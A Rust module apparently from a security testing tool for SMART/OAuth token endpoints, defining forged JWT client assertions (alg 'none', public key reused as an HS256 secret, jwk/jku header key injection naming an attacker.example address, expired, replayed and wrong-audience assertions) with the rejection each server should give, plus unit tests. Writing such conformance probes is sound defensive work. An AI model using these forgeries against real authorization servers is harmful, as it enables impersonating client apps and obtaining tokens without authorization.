//! The client assertion of an asymmetric app: one that proves nothing (RFC 7523 3; RFC 8725 3).

use super::forge;
use super::{Attempt, Made, Need};
use crate::smart::{Assertion, Claims};
use jsonwebtoken::Algorithm;
use serde_json::{Value, json};

attacks! {
    "The client assertion that the app sends with its code."
    AssertionChange of Attempt, control Exchange;

    OtherKey "an assertion signed with another key" {
        does: "signs the right claims with a key that was made for this request, under the registered kid",
        matters: "a signature that is not verified lets anybody be the app",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [Forges],
        make: |it| forged(it, |own| forge::with_own_key(&own.claims, |_, _| ())),
    }
    Unsigned "an unsigned assertion" {
        does: "sends the right claims with alg none and no signature",
        matters: "a server that believes the header about the algorithm lets anybody be the app",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [Forges],
        make: |it| forged(it, |own| {
            let mut claims = own.claims.clone();
            claims.header["alg"] = json!("none");
            claims.signature.clear();
            Some(crate::smart::rebuild(&claims))
        }),
    }
    PublicKeyAsSecret "an assertion signed with its public key as a secret" {
        does: "signs the right claims by HS256 with the public key of the app, as PEM",
        matters: "a server that lets the header choose between RSA and HMAC takes what everybody knows for a secret",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [Forges],
        make: |it| forged(it, |own| {
            let secrets = forge::as_secrets(&own.public_key()?);
            forge::with_secret(&own.claims, secrets.get(1)?, Algorithm::HS256)
        }),
    }
    KeysInHeader "an assertion that brings its own key" {
        does: "signs with another key, and names that key in the header as jwk and as jku",
        matters: "a server that takes the key from the assertion believes whoever wrote it",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [Forges],
        make: |it| forged(it, |own| forge::with_own_key(&own.claims, |header, jwk| {
            header["jwk"] = jwk.clone();
            header["jku"] = json!("https://app.attacker.example/jwks.json");
        })),
    }
    KeysAtOwnAddress "an assertion that names a key set at that address" {
        does: "signs with another key, which lies at an address of the app that the header names as jku",
        matters: "a server that fetches the key from where the assertion says believes whoever wrote it, and calls any address for them",
        right: "400 or 401 with invalid_client, no token, and no request at that address",
        needs: [AssertionKey, OwnAddress],
        intrudes: [Forges],
        make: |it| {
            let lure = it.lent.lure.clone();
            it.lent.assertion.as_ref().ok_or(Need::AssertionKey)?;
            let lure = lure.ok_or(Need::OwnAddress)?;
            forged(it, |own| forge::with_key_at(&own.claims, &lure, |claims, at| claims.header["jku"] = json!(at)))
        },
    }
    Expired "an assertion that has expired" {
        does: "sends an assertion whose exp is ten minutes ago",
        matters: "an assertion that leaked into a log must not be worth a token for ever",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, now| {
            claims["iat"] = json!(now - 900);
            claims["exp"] = json!(now - 600);
        }),
    }
    LongLived "an assertion for a day" {
        does: "sends an assertion whose exp is a day ahead",
        matters: "SMART limits the life of an assertion to five minutes; a longer one is worth stealing",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, now| claims["exp"] = json!(now + 86_400)),
    }
    OtherAudience "an assertion for another server" {
        does: "sends an assertion whose aud is the token endpoint of an attacker",
        matters: "a fake server that the app talks to must not be able to use its assertion here",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, _| claims["aud"] = json!("https://auth.attacker.example/token")),
    }
    OtherIssuer "an assertion by another app" {
        does: "sends an assertion whose iss is another app, and whose sub is this one",
        matters: "an app must not speak for another one",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, _| claims["iss"] = json!("probity-unknown-client")),
    }
    OtherSubject "an assertion about another app" {
        does: "sends an assertion whose sub is another app, and whose iss is this one",
        matters: "an app must not speak for another one",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, _| claims["sub"] = json!("probity-unknown-client")),
    }
    WithoutId "an assertion without a jti" {
        does: "leaves out the id by which an assertion is known again",
        matters: "what cannot be known again can be used again",
        right: "400 or 401 with invalid_client, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| changed(it, |claims, _| drop(claims.as_object_mut().map(|claims| claims.remove("jti")))),
    }
    Used "an assertion that was used" {
        does: "sends the assertion that was sent with the code of another sign-in",
        matters: "an assertion that is good twice can be replayed by whoever sees it",
        right: "400 or 401 with invalid_client, and no token",
        needs: [UsedAssertion],
        intrudes: [Replays],
        make: |it| {
            let used = it.lent.used_assertion.take().ok_or(Need::UsedAssertion)?;
            it.put("client_assertion", &used);
            Ok(())
        },
    }
    OtherType "an assertion of another type" {
        does: "says that the assertion is a SAML one",
        matters: "a server that guesses what an assertion is may verify it by the wrong rules",
        right: "400 or 401 with invalid_client or invalid_request, and no token",
        needs: [AssertionKey],
        intrudes: [],
        make: |it| {
            it.request.get("client_assertion").ok_or(Need::AssertionKey)?;
            it.put("client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:saml2-bearer");
            Ok(())
        },
    }
}

/// Sends what is made of the right assertion.
fn forged(it: &mut Attempt, make: impl FnOnce(&Assertion) -> Option<String>) -> Made {
    let made = it.lent.assertion.as_ref().and_then(make).ok_or(Need::AssertionKey)?;
    it.put("client_assertion", &made);
    Ok(())
}

/// Sends the right assertion with other claims, signed with the right key. The change is told when it was
/// made, in seconds since 1970.
fn changed(it: &mut Attempt, change: impl FnOnce(&mut Value, i64)) -> Made {
    forged(it, |own| {
        let Claims { header, mut payload, signature } = own.claims.clone();
        let made = payload["iat"].as_i64().unwrap_or_default();
        change(&mut payload, made);
        own.signed(&Claims { header, payload, signature })
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::probe::Attack as _;
    use crate::smart::{Endpoints, TokenRequest, peek, verify};
    use crate::target::{Client, ClientAuth, ClientRole, KeyAlg, Secret};
    use std::collections::BTreeSet;

    fn attempt() -> Attempt {
        let url = |text: &str| url::Url::parse(text).unwrap();
        let endpoints = Endpoints {
            authorize: url("https://auth.test/authorize"),
            token: url("https://auth.test/token"),
            introspect: None,
            revoke: None,
            jwks: None,
            issuer: None,
            clock_ahead: 0,
            document: Value::Null,
        };
        let key = Secret::new(forge::new_pem());
        let auth = ClientAuth::PrivateKey { key, alg: KeyAlg::Es384, kid: None };
        let client = Client {
            role: ClientRole::Asymmetric,
            id: "app".to_owned(),
            auth,
            redirect_uri: None,
            scopes: None,
            authorize: Vec::new(),
            token: Vec::new(),
        };
        let request = TokenRequest::about(&endpoints, &client, &endpoints.token, "x").unwrap();
        let mut attempt = Attempt::correct(request);
        attempt.lent.assertion = Assertion::of(&client, &endpoints);
        attempt.lent.used_assertion = Some("used".to_owned());
        attempt.lent.lure = Some(crate::http::Lure::unheard(url("http://127.0.0.1/probity-0")));
        attempt
    }

    fn claims(attempt: &Attempt) -> Claims {
        peek(attempt.request.get("client_assertion").unwrap()).unwrap()
    }

    /// The names of claims and header members that differ, `jti` and times of making aside.
    fn differ(one: &Claims, other: &Claims) -> BTreeSet<String> {
        let of = |claims: &Claims| {
            let all = [&claims.header, &claims.payload].into_iter().filter_map(Value::as_object).flatten();
            all.map(|(name, value)| (name.clone(), value.to_string())).collect::<BTreeSet<_>>()
        };
        let (one, other) = (of(one), of(other));
        one.symmetric_difference(&other).map(|(name, _)| name.clone()).filter(|name| name != "iat").collect()
    }

    #[test]
    fn each_changes_what_it_says_and_is_signed_by_the_key_that_it_says() {
        for attack in AssertionChange::ALL {
            let mut altered = attempt();
            let own = altered.lent.assertion.clone().unwrap();
            attack.make(&mut altered).unwrap();
            let changed: &[&str] = match attack {
                AssertionChange::OtherKey | AssertionChange::Used | AssertionChange::OtherType => &[],
                AssertionChange::Unsigned | AssertionChange::PublicKeyAsSecret => &["alg"],
                AssertionChange::KeysInHeader => &["jku", "jwk"],
                AssertionChange::KeysAtOwnAddress => &["jku"],
                AssertionChange::Expired | AssertionChange::LongLived => &["exp"],
                AssertionChange::OtherAudience => &["aud"],
                AssertionChange::OtherIssuer => &["iss"],
                AssertionChange::OtherSubject => &["sub"],
                AssertionChange::WithoutId => &["jti"],
            };
            if matches!(attack, AssertionChange::Used | AssertionChange::OtherType) {
                continue;
            }
            let seen = differ(&own.claims, &claims(&altered));
            assert_eq!(seen, changed.iter().map(|name| (*name).to_owned()).collect(), "{attack:?}");
            let keys = json!({ "keys": [own.public_key().unwrap()] });
            let by_own_key = verify(altered.request.get("client_assertion").unwrap(), &keys).is_ok();
            assert_eq!(
                by_own_key,
                changed != ["alg"] && !changed.contains(&"jku") && !changed.is_empty(),
                "{attack:?}"
            );
        }
    }

    #[test]
    fn an_app_without_a_key_has_no_assertion_to_change() {
        for attack in AssertionChange::ALL {
            let mut bare = attempt();
            bare.lent.assertion = None;
            bare.lent.used_assertion = None;
            bare.request.set("client_assertion", None);
            let need = attack.make(&mut bare).unwrap_err();
            assert!(attack.about().needs.contains(&need), "{attack:?}");
        }
    }
}
